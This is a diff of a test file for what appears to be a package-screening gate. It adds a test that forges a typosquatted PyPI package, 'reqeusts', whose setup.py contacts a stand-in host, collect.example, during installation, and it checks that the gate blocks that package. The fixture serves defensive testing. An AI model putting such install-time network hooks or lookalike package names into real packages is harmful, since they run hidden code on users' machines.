@@ -1,13 +1,13 @@
 /** The commands themselves, with the engine in its workers, on forged packages and real clients. */
 import assert from 'node:assert/strict';
 import { execFile, spawn } from 'node:child_process';
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import { forgeColourama } from '../forge/colourama.ts';
-import { forgeWheel } from '../forge/forge.ts';
+import { forgeSdist, forgeWheel } from '../forge/forge.ts';
 import { cleanEnvironment, nodeClient, pythonClients } from './clients.ts';
 import { freePort } from './free-port.ts';
 import { NpmRegistry } from './npm-registry.ts';
@@ -60,6 +60,23 @@ test('assay run refuses the forged colourama to pip with the evidence, and lets 
   const log = await assay(['gate', 'log']);
   assert.match(log.out, /refused {2}pypi:colourama@0\.1\.6 {2}AG-/);
   assert.match(log.out, /served {2}pypi:plain-thing@1\.0/);
+});
+
+test('the gate judges bytes as a scan does, whom their name imitates included', async () => {
+  const fetching = (name: string): Uint8Array => forgeSdist(name, '1.0', {
+    'setup.py': `from setuptools import setup\nimport urllib.request\nurllib.request.urlopen('https://collect.example/start').read()\nsetup(name='${name}', version='1.0')\n`,
+    [`${name}.py`]: 'x = 1\n', 'PKG-INFO': `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n`,
+  });
+  for (const name of ['reqeusts', 'quietlake']) index.publish(name, [{ filename: `${name}-1.0.tar.gz`, bytes: fetching(name) }]);
+  const path = project('imitation', { 'assay.toml': `${readFileSync(join(folder, 'assay.toml'), 'utf8')}[policy.pypi]\nblock = "suspicious"\n` });
+  const child = spawn(process.execPath, [ASSAY, 'gate', '--port', String(await freePort())], { cwd: path, env });
+  const url = await new Promise<string>((resolve) => child.stdout.setEncoding('utf8').once('data', (text: string) => resolve(/http:\/\/\S+?:\d+/.exec(text)?.[0] ?? '')));
+  const imitation = await fetch(`${url}/pypi/files/reqeusts/reqeusts-1.0.tar.gz`);
+  const other = await fetch(`${url}/pypi/files/quietlake/quietlake-1.0.tar.gz`);
+  child.kill('SIGTERM');
+  await new Promise((resolve) => child.on('close', resolve));
+  assert.deepEqual([imitation.status, other.status], [403, 200]);
+  assert.match(imitation.statusText, /suspicious: .*easily taken for requests/);
 });
 
 test('assay run lets npm in, and tells what did not pass the gate', { skip: 'absent' in npm ? npm.absent : false }, async () => {
